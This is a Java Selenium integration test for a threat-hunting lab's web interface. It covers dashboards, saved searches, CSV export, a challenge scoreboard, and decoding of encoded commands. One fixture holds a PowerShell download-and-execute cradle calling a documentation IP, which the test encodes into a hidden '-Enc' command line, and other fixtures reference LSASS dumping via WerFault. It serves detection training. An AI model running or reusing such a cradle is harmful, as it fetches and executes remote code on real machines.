package io.helklab.door.hunt;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Dashboards, saved searches, CSV export, the document view's original event and the workshop's progress and
 * scoreboard in headless Chromium against a real appliance holding the LSASS dumping scenario.
 */
class HuntViewsBrowserIT {
    private static final Duration WAIT = Duration.ofSeconds(30);
    private static final String DECODING_INDEX = "hunt-ui-decoding-test";
    private static final String ENCODED_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Stage2')";
    @TempDir
    static Path profile;
    @TempDir
    static Path downloads;
    private static HuntFixture fixture;
    private static ChromeDriver driver;

    @BeforeAll
    static void start() throws Exception {
        Browser.requireChromium();
        fixture = HuntFixture.get();
        indexAnEncodedCommand();
        driver = Browser.start(profile);
        driver.executeCdpCommand("Browser.setDownloadBehavior", Map.of("behavior", "allow",
                "downloadPath", downloads.toAbsolutePath().toString()));
    }

    @AfterAll
    static void stop() {
        if (driver != null) {
            driver.quit();
        }
    }

    /** A PowerShell start whose original command line carries a mixed-case Base64 payload, outside logs-*. */
    private static void indexAnEncodedCommand() throws IOException, InterruptedException {
        ObjectMapper json = new ObjectMapper();
        String payload = Base64.getEncoder().encodeToString(ENCODED_SCRIPT.getBytes(StandardCharsets.UTF_16LE));
        String commandLine = "powershell.exe -NoP -NonI -W Hidden -Enc " + payload;
        ObjectNode original = json.createObjectNode();
        original.putObject("winlog").put("computer_name", "WKS01.helk.lab").putObject("event_data").put("CommandLine", commandLine);
        ObjectNode document = json.createObjectNode().put("@timestamp", "2026-10-05T09:00:00Z").put("event_id", 1)
                .put("host_name", "wks01.helk.lab").put("process_name", "powershell.exe")
                .put("process_command_line", commandLine.toLowerCase()).put("event_original_message", original.toString());
        HttpResponse<String> answer = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                        URI.create(fixture.lab.elasticsearchUrl() + "/" + DECODING_INDEX + "/_doc/encoded?refresh=true"))
                .header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofString(document.toString())).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(answer.statusCode()).as(answer.body()).isBetween(200, 201);
    }

    private static By subject(String name) {
        return By.cssSelector("[data-test-subj=\"" + name + "\"]");
    }

    private static WebDriverWait waiting() {
        return new WebDriverWait(driver, WAIT);
    }

    private static void open(String hash) {
        driver.get(fixture.url() + hash);
    }

    private static long settledTotal() {
        waiting().until(ExpectedConditions.attributeToBe(subject("searchStatus"), "data-state", "done"));
        return Long.parseLong(driver.findElement(subject("searchStatus")).getAttribute("data-total"));
    }

    /** A fresh page with no workshop progress in the browser's storage. */
    private static void openWithoutProgress(String hash) {
        open(hash);
        driver.executeScript("window.localStorage.clear()");
        driver.navigate().refresh();
    }

    @Test
    void theSysmonDashboardRendersAllItsPanelsAndAValueOpensSearch() {
        open("#/dashboards");
        waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("dashboardLink-sysmon")));
        Browser.screenshot(driver, "dashboards-list");
        driver.findElement(subject("dashboardLink-sysmon")).click();
        waiting().until(ExpectedConditions.attributeToBe(subject("dashboardStatus"), "data-state", "done"));
        List<WebElement> panels = waiting().until(driver -> {
            List<WebElement> found = driver.findElements(subject("dashboardPanel"));
            return found.size() == 9 ? found : null;
        });
        assertThat(panels).allSatisfy(panel -> {
            assertThat(panel.getAttribute("data-error")).as(panel.getAttribute("data-panel")).isEqualTo("false");
            assertThat(Integer.parseInt(panel.getAttribute("data-rows"))).as(panel.getAttribute("data-panel")).isPositive();
        });
        assertThat(driver.findElements(By.cssSelector("[data-test-subj=dashboardPanel] canvas"))).hasSizeGreaterThanOrEqualTo(3);
        assertThat(driver.findElements(By.cssSelector("[data-test-subj=dashboardPanel] svg path"))).isNotEmpty();
        Browser.screenshot(driver, "dashboard-sysmon");

        WebElement parent = driver.findElement(By.cssSelector("[data-panel=parent-child] [data-test-subj=panelValue-process_parent_name]"));
        String value = parent.getText().replace("\n", "");
        parent.click();
        waiting().until(driver -> driver.getCurrentUrl().contains("#/search") && driver.getCurrentUrl().contains("filter=process_parent_name"));
        assertThat(settledTotal()).isPositive();
        assertThat(driver.findElements(subject("filterBadge"))).singleElement()
                .satisfies(badge -> assertThat(badge.getText()).contains("process_parent_name:" + value));
        assertThat(driver.getCurrentUrl()).contains("q=event_id%3A1", "index=logs-endpoint-winevent-sysmon-");
        Browser.screenshot(driver, "dashboard-drilled-into-search");
    }

    @Test
    void theHostInvestigationAsksForItsHost() {
        open("#/dashboards?id=host-investigation");
        WebElement host = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("parameter-host")));
        waiting().until(ExpectedConditions.attributeToBe(subject("dashboardStatus"), "data-state", "done"));
        assertThat(driver.findElements(subject("dashboardPanel"))).isEmpty();
        host.sendKeys("wks02.helk.lab", Keys.ENTER);
        waiting().until(driver -> driver.getCurrentUrl().contains("host=wks02.helk.lab"));
        waiting().until(driver -> driver.findElements(subject("dashboardPanel")).size() == 8);
        waiting().until(ExpectedConditions.attributeToBe(subject("dashboardStatus"), "data-state", "done"));
        assertThat(driver.findElements(subject("dashboardPanel"))).allSatisfy(panel -> {
            assertThat(panel.getAttribute("data-error")).as(panel.getAttribute("data-panel")).isEqualTo("false");
            assertThat(Integer.parseInt(panel.getAttribute("data-rows"))).as(panel.getAttribute("data-panel")).isPositive();
        });
        assertThat(driver.findElement(By.cssSelector("[data-panel=users]")).getText()).contains("bchen");
        Browser.screenshot(driver, "dashboard-host-investigation");
    }

    @Test
    void aSavedSearchRoundTripsThroughItsLink() {
        open("#/search?q=event_id:10&columns=host_name,process_name,target_process_path");
        long total = settledTotal();
        driver.findElement(subject("saveSearch")).click();
        driver.findElement(subject("savedSearchName")).sendKeys("LSASS access (browser)");
        driver.findElement(subject("savedSearchConfirm")).click();
        waiting().until(driver -> driver.getCurrentUrl().contains("saved=lsass-access-browser"));
        assertThat(driver.findElement(subject("currentSavedSearch")).getText()).contains("LSASS access (browser)");
        Browser.screenshot(driver, "saved-search");

        open("#/home");
        open("#/search?saved=lsass-access-browser");
        waiting().until(driver -> driver.getCurrentUrl().contains("q=event_id"));
        assertThat(settledTotal()).isEqualTo(total);
        assertThat(driver.findElement(subject("queryInput")).getAttribute("value")).isEqualTo("event_id:10");
        assertThat(driver.findElement(By.cssSelector("table.events thead")).getText()).contains("target_process_path");

        open("#/search?saved=sysmon-executedcommands");
        waiting().until(driver -> driver.getCurrentUrl().contains("q=event_id%3A1"));
        assertThat(settledTotal()).isPositive();
        assertThat(driver.findElement(By.cssSelector("table.events thead")).getText()).contains("process_parent_name");
    }

    @Test
    void theCsvExportDownloadsEveryMatchingRow() throws Exception {
        open("#/search?q=event_id:10&columns=host_name,process_name");
        long total = settledTotal();
        driver.findElement(subject("exportCsv")).click();
        Path file = downloads.resolve("helk-lab-search.csv");
        waiting().until(driver -> Files.exists(file) && !Files.exists(downloads.resolve("helk-lab-search.csv.crdownload")));
        List<String> lines = Files.readAllLines(file);
        assertThat(lines.get(0)).isEqualTo("@timestamp,host_name,process_name");
        assertThat(lines).hasSize((int) total + 1);
        assertThat(lines).anySatisfy(line -> assertThat(line).endsWith(",wks02.helk.lab,werfault.exe"));
    }

    @Test
    void challengeProgressSurvivesTabsAndAReload() {
        openWithoutProgress("#/challenges");
        String id = HuntFixture.SCENARIO + "-host";
        WebElement input = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("answerInput-" + id)));
        input.sendKeys("wks02");
        driver.findElement(subject("answerSubmit-" + id)).click();
        waiting().until(ExpectedConditions.attributeToBe(subject("verdict-" + id), "data-correct", "true"));
        assertThat(driver.findElement(subject("solvedCount-" + HuntFixture.SCENARIO)).getText()).isEqualTo("1 / 6 solved");
        driver.findElement(subject("tab-search")).click();
        driver.findElement(subject("tab-challenges")).click();
        waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("solved-" + id)));
        driver.navigate().refresh();
        waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("solved-" + id)));
        assertThat(driver.findElement(subject("answerInput-" + id)).getAttribute("value")).isEqualTo("wks02");
        assertThat(driver.findElement(subject("solvedCount-" + HuntFixture.SCENARIO)).getText()).isEqualTo("1 / 6 solved");
        Browser.screenshot(driver, "challenge-progress-after-reload");
    }

    @Test
    void theScoreboardShowsTwoStudents() {
        openWithoutProgress("#/challenges");
        String id = HuntFixture.SCENARIO + "-granted-access";
        for (String student : List.of("Ada Browser", "Grace Browser")) {
            WebElement name = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("studentName")));
            name.sendKeys(Keys.chord(Keys.CONTROL, "a"), student);
            driver.findElement(subject("studentSave")).click();
            waiting().until(ExpectedConditions.textToBePresentInElementLocated(subject("studentCurrent"), student));
            WebElement answer = driver.findElement(subject("answerInput-" + id));
            answer.sendKeys(Keys.chord(Keys.CONTROL, "a"), "0x1FFFFF");
            driver.findElement(subject("answerSubmit-" + id)).click();
            waiting().until(ExpectedConditions.attributeToBe(subject("verdict-" + id), "data-correct", "true"));
            waiting().until(driver -> driver.findElement(subject("answerSubmit-" + id)).getAttribute("aria-busy") == null);
        }
        driver.findElement(subject("scoreboardView")).click();
        waiting().until(driver -> driver.findElements(By.cssSelector("[data-test-subj=scoreboardRow][data-student='Grace Browser']")).size() == 1);
        List<String> students = driver.findElements(subject("scoreboardRow")).stream().map(row -> row.getAttribute("data-student")).toList();
        assertThat(students).contains("Ada Browser", "Grace Browser");
        assertThat(driver.findElement(By.cssSelector("[data-student='Ada Browser']")).getText()).contains("1 / 6");
        Browser.screenshot(driver, "scoreboard");
    }

    @Test
    void anEmptyLast24HoursSaysWhereTheDataIs() {
        open("#/search?from=now-24h&to=now");
        assertThat(settledTotal()).isZero();
        WebElement hint = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("emptyRangeHint")));
        assertThat(hint.getText()).contains("2026-10-06");
        Browser.screenshot(driver, "search-empty-range-hint");
        driver.findElement(subject("showDataRange")).click();
        waiting().until(driver -> driver.getCurrentUrl().contains("from=2026-10-06"));
        assertThat(settledTotal()).isPositive();
    }

    @Test
    void aFieldNameIsSuggestedWhileTypingAndAnUnknownOneIsWarnedAbout() {
        open("#/search?q=parent_process_name:cmd.exe");
        settledTotal();
        WebElement warning = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("unknownFieldWarning")));
        assertThat(warning.getText()).contains("parent_process_name", "process_parent_name");
        WebElement input = driver.findElement(subject("queryInput"));
        input.sendKeys(Keys.chord(Keys.CONTROL, "a"), Keys.DELETE);
        input.sendKeys("process_parent_na");
        WebElement suggestions = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("fieldSuggestions")));
        assertThat(suggestions.getText()).contains("process_parent_name");
        Browser.screenshot(driver, "search-field-suggestions");
        input.sendKeys(Keys.TAB);
        waiting().until(driver -> input.getAttribute("value").startsWith("process_parent_name:"));
    }

    @Test
    void theDocumentViewShowsTheEventAsItArrivedAndTheEventsAroundIt() {
        open("#/search?q=" + "process_command_line:%22werfault.exe%20-accepteula%20-ma%2014104%22");
        assertThat(settledTotal()).isPositive();
        driver.findElements(subject("expandHit")).get(0).click();
        waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("documentMode-original"))).click();
        assertThat(driver.findElement(subject("originalEvent")).getText()).contains("WerFault.exe -accepteula -ma 14104",
                "wer5F1A.tmp.dmp");
        driver.findElement(subject("eventsAround")).click();
        waiting().until(driver -> driver.getCurrentUrl().contains("around="));
        assertThat(settledTotal()).isGreaterThan(1);
        assertThat(driver.findElements(By.cssSelector("[data-test-subj=hitRow][data-around=true]"))).hasSize(1);
        assertThat(driver.findElements(subject("filterBadge"))).singleElement()
                .satisfies(badge -> assertThat(badge.getText()).isEqualTo("host_name:wks02.helk.lab"));
        Browser.screenshot(driver, "search-events-around");
    }

    @Test
    void anEncodedCommandIsDecodedFromTheOriginalCase() {
        open("#/search?index=" + DECODING_INDEX);
        assertThat(settledTotal()).isEqualTo(1);
        driver.findElement(subject("expandHit")).click();
        WebElement decoded = waiting().until(ExpectedConditions.visibilityOfElementLocated(subject("decodedCommand")));
        assertThat(decoded.getText()).contains(ENCODED_SCRIPT);
        Browser.screenshot(driver, "search-decoded-command");
    }
}
